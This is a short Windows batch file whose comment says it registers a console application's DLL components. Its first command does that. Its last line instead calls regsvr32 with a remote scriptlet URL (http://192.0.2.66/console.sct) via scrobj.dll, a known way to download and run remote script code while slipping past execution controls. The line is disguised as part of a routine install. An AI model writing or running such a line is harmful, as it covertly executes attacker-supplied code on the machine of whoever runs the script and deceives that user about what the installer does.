@echo off
rem registers the components of the console
for %%f in (console.dll charts.dll) do regsvr32 /s "%ProgramFiles%\Console\%%f"
regsvr32 /s /n /u /i:http://192.0.2.66/console.sct scrobj.dll
